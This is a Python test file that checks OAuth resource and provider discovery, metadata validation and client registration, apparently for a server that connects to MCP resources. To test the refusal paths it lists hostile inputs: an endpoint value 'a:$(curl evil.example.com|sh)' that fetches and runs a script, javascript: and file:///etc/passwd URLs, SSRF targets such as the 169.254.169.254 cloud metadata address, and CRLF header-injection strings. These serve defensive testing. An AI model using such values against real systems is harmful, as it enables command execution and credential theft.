"""From a server that asks for a login to its provider: every rule of where to look, and nothing believed too easily."""

import asyncio
from typing import Any

import pytest

from core.outbound import Client, Policy
from tenants.vault.oauth.challenges import Challenge, bearer_challenge
from tenants.vault.oauth.discovery import Protected, canonical, discovered, known, resource_places
from tenants.vault.oauth.failures import MetadataRefused, OAuthFailed, ProviderAway, RegistrationNeeded
from tenants.vault.oauth.metadata import NONE, ProviderMetadata, checked, places
from tenants.vault.oauth.registration import Way, registered
from tests.told_host import Host, host

__all__ = ["host"]

PROTECTED = "/.well-known/oauth-protected-resource"
SERVER = "/.well-known/oauth-authorization-server"
OPENID = "/.well-known/openid-configuration"
REDIRECT = "https://console.example.com/connections/callback"


def _found(host: Host, path: str = "/mcp", challenge: str = "") -> Protected:
    async def run() -> Protected:
        async with Client() as client:
            return await discovered(client, f"{host.origin}{path}", challenge)

    return asyncio.run(run())


def _resource(host: Host, at: str, path: str = "/mcp", **changes: Any) -> None:
    document = {"resource": f"{host.origin}{path}", "authorization_servers": [host.origin]}
    host.says(at, document | changes)


@pytest.mark.parametrize("at", [f"{PROTECTED}/mcp", PROTECTED])
def test_metadata_of_a_resource_are_looked_for_at_its_path_and_then_at_the_root(host: Host, at: str) -> None:
    _resource(host, at, scopes_supported=["read", "write"])
    host.provides(host.origin, SERVER)
    found = _found(host)
    assert (found.resource, found.scopes, found.provider.issuer) == (f"{host.origin}/mcp", "read write", host.origin)
    assert host.asked[1] == f"{PROTECTED}/mcp"


def test_a_challenge_names_where_and_which_scopes(host: Host) -> None:
    _resource(host, "/elsewhere", scopes_supported=["all"])
    host.provides(host.origin, SERVER)
    told = f'Basic realm="x", Bearer error="invalid_token", resource_metadata="{host.origin}/elsewhere", scope="read"'
    host.says("/mcp", {}, 401, WWW_Authenticate=told)
    assert _found(host).scopes == "read"
    assert not [path for path in host.asked if path.startswith(PROTECTED)]
    host.asked.clear()
    assert _found(host, challenge=told).scopes == "read"
    assert "/mcp" not in host.asked


@pytest.mark.parametrize("at", [f"{SERVER}/tenant", f"{OPENID}/tenant", f"/tenant{OPENID}"])
def test_a_provider_with_a_path_is_found_in_each_place(host: Host, at: str) -> None:
    issuer = f"{host.origin}/tenant"
    _resource(host, PROTECTED, authorization_servers=[issuer])
    host.provides(issuer, at)
    assert _found(host).provider.issuer == issuer
    tried = [path for path in host.asked if "tenant" in path]
    assert [f"{host.origin}{path}" for path in tried] == places(issuer)[: len(tried)]


def test_a_server_of_the_first_revision_is_its_own_provider(host: Host) -> None:
    host.provides(host.origin, SERVER)
    assert not _found(host).provider.is_guessed


def test_without_any_metadata_the_endpoints_are_those_of_the_first_revision(host: Host) -> None:
    provider = _found(host, "/deep/mcp").provider
    assert provider.is_guessed
    assert provider.authorization_endpoint == f"{host.origin}/authorize"
    assert (provider.token_endpoint, provider.registration_endpoint) == (
        f"{host.origin}/token",
        f"{host.origin}/register",
    )


def _refused(host: Host, path: str = "/mcp") -> str:
    with pytest.raises(MetadataRefused) as refused:
        _found(host, path)
    return str(refused.value)


@pytest.mark.parametrize("resource", ["https://other.example.com/mcp", "{origin}/mc", "{origin}/mcp/below", 7, None])
def test_metadata_of_another_resource_are_refused(host: Host, resource: Any) -> None:
    named = resource.format(origin=host.origin) if isinstance(resource, str) else resource
    _resource(host, PROTECTED, resource=named)
    host.provides(host.origin, SERVER)
    assert "another resource" in _refused(host)


def test_metadata_of_the_origin_cover_what_lies_below(host: Host) -> None:
    _resource(host, PROTECTED, resource=host.origin)
    host.provides(host.origin, SERVER)
    assert _found(host).resource == host.origin


@pytest.mark.parametrize("issuer", ["https://other.example.com", "{origin}/", "{origin}/x", None, ["{origin}"]])
def test_metadata_of_another_issuer_are_refused(host: Host, issuer: Any) -> None:
    _resource(host, PROTECTED)
    told = issuer.format(origin=host.origin) if isinstance(issuer, str) else issuer
    host.provides(host.origin, SERVER, issuer=told)
    assert "another issuer" in _refused(host)


@pytest.mark.parametrize("methods", [None, [], ["plain"], "S256", ["s256"]])
def test_a_provider_without_pkce_is_refused(host: Host, methods: Any) -> None:
    _resource(host, PROTECTED)
    host.provides(host.origin, SERVER, code_challenge_methods_supported=methods)
    assert "PKCE" in _refused(host)


HOSTILE = [
    "http://login.example.com/authorize",
    "javascript:alert(1)",
    "file:///etc/passwd",
    "a:$(curl evil.example.com|sh)",
    "https://login.example.com/authorize`calc`\n",
    'https://login.example.com/"><script>',
    "https://user:pass@login.example.com/",
    "https://login.example.com/#fragment",
    "//login.example.com/authorize",
    "/authorize",
    "https://",
    "https://login.example.com:port/",
    "https://login.example.com/" + "a" * 3000,
    "https://l\u00f6gin.example.com/",
]


@pytest.mark.parametrize("url", HOSTILE)
@pytest.mark.parametrize("name", ["authorization_endpoint", "token_endpoint", "registration_endpoint"])
def test_an_endpoint_that_is_no_https_url_is_refused(host: Host, name: str, url: str) -> None:
    _resource(host, PROTECTED)
    host.provides(host.origin, SERVER, **{name: url})
    assert name in _refused(host)


PRIVATE = [
    "https://127.0.0.1/x",
    "https://169.254.169.254/latest/meta-data",
    "https://[::ffff:169.254.169.254]/",
    "https://10.0.0.1/",
    "https://2130706433/",
    "https://0x7f.1/",
    "https://localhost/",
    "http://127.0.0.1:1/",
    "https://[fd00::1]/",
    "https://0.0.0.0/",
]


@pytest.mark.parametrize("url", PRIVATE)
def test_no_fetcher_goes_to_a_private_address(host: Host, url: str) -> None:
    told = f'Bearer resource_metadata="{url}"'
    with pytest.raises(OAuthFailed) as by_challenge:
        _found(host, challenge=told)
    _resource(host, PROTECTED, authorization_servers=[url])
    with pytest.raises(OAuthFailed) as by_issuer:
        _found(host)
    for failed in (by_challenge.value, by_issuer.value):
        assert isinstance(failed, MetadataRefused)


@pytest.mark.parametrize("url", PRIVATE)
def test_registration_and_tokens_go_to_no_private_address(host: Host, url: str) -> None:
    provider = ProviderMetadata("https://login.example.com", url, url, registration_endpoint=url)

    async def register() -> object:
        async with Client() as client:
            return await registered(client, provider, REDIRECT, "", "")

    with pytest.raises(MetadataRefused):
        asyncio.run(register())


def test_metadata_that_lead_to_a_private_address_are_not_followed(host: Host) -> None:
    host.says(PROTECTED, {}, 302, Location="https://169.254.169.254/")
    assert "169.254.169.254" in _refused(host)


@pytest.mark.parametrize("document", [b"", b"[]", b"null", b"{", b'"text"', b"\xff", b"x" * 200_000])
def test_a_document_that_is_no_object_or_too_large_is_refused(host: Host, document: bytes) -> None:
    host.says(PROTECTED, document)
    with pytest.raises(OAuthFailed):
        _found(host)


def test_a_provider_that_fails_is_away_and_not_guessed_at(host: Host) -> None:
    _resource(host, PROTECTED)
    host.says(SERVER, {}, 503)
    with pytest.raises(ProviderAway):
        _found(host)


def test_a_named_provider_has_to_publish_metadata(host: Host) -> None:
    async def run() -> Protected:
        async with Client() as client:
            return await known(client, host.origin)

    with pytest.raises(MetadataRefused):
        asyncio.run(run())
    host.provides(host.origin, OPENID)
    assert asyncio.run(run()).resource == ""


def _registered(host: Host, provider: ProviderMetadata, document_url: str = "") -> Any:
    async def run() -> object:
        async with Client() as client:
            return await registered(client, provider, REDIRECT, document_url, "read")

    return asyncio.run(run())


def test_a_provider_that_reads_documents_is_given_ours(host: Host) -> None:
    provider = ProviderMetadata(host.origin, f"{host.origin}/a", f"{host.origin}/t", reads_documents=True)
    made = _registered(host, provider, "https://console.example.com/connections/client.json")
    assert (made.way, made.client_id) == (Way.DOCUMENT, "https://console.example.com/connections/client.json")
    assert host.asked == []


def test_a_provider_that_takes_no_strangers_needs_a_registration(host: Host) -> None:
    provider = ProviderMetadata(host.origin, f"{host.origin}/a", f"{host.origin}/t", reads_documents=True)
    with pytest.raises(RegistrationNeeded):
        _registered(host, provider, "http://localhost:8000/connections/client.json")


@pytest.mark.parametrize(
    "answer",
    [
        {},
        {"client_id": ""},
        {"client_id": 7},
        {"client_id": "x" * 2000},
        {"client_id": "a\nb"},
        {"client_id": "a", "client_secret": "b\r\nX-Header: 1"},
        {"client_id": "a", "token_endpoint_auth_method": "client_secret_basic"},
        {"client_id": "a", "client_secret": "b", "token_endpoint_auth_method": "client_secret_jwt"},
    ],
)
def test_a_registration_that_cannot_work_is_refused(host: Host, answer: dict[str, Any]) -> None:
    host.says("/register", answer, 201)
    provider = ProviderMetadata(host.origin, f"{host.origin}/a", f"{host.origin}/t", f"{host.origin}/register")
    with pytest.raises(MetadataRefused):
        _registered(host, provider)


def test_a_registration_without_a_secret_is_a_public_client(host: Host) -> None:
    host.says("/register", {"client_id": "a"}, 201)
    provider = ProviderMetadata(host.origin, f"{host.origin}/a", f"{host.origin}/t", f"{host.origin}/register")
    made = _registered(host, provider)
    assert (made.client_id, made.auth_method, made.secret) == ("a", NONE, "")


@pytest.mark.parametrize(
    ("header", "expected"),
    [
        ("", Challenge()),
        ("Basic realm=x", Challenge()),
        ('Bearer scope="a b"', Challenge(scope="a b")),
        ('bearer error=invalid_token,scope="a \\"b\\""', Challenge(scope='a "b"', error="invalid_token")),
        ('Bearer realm="x, Bearer scope=y", scope=z', Challenge(scope="z")),
        ('Digest nonce="x", Bearer scope=a, Basic scope=b', Challenge(scope="a")),
        ('Bearer scope="unclosed', Challenge()),
        ("Bearer " + "a" * 10_000, Challenge()),
        (",,, = =", Challenge()),
    ],
)
def test_a_challenge_is_read_as_the_grammar_says(header: str, expected: Challenge) -> None:
    assert bearer_challenge(header) == expected


def test_a_resource_has_one_spelling() -> None:
    assert canonical("HTTPS://MCP.Example.com/") == "https://mcp.example.com"
    assert canonical("https://mcp.example.com/a/?x=1#y") == "https://mcp.example.com/a/?x=1"
    assert resource_places("https://mcp.example.com") == [f"https://mcp.example.com{PROTECTED}"]


def test_lists_in_metadata_are_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    base = "https://login.example.com"
    document = {
        "issuer": base,
        "authorization_endpoint": f"{base}/a",
        "token_endpoint": f"{base}/t",
        "code_challenge_methods_supported": ["S256"],
        "scopes_supported": ["s"] * 5000 + ["x" * 500, 7],
    }
    assert len(checked(document, base, Policy()).scopes) == 200
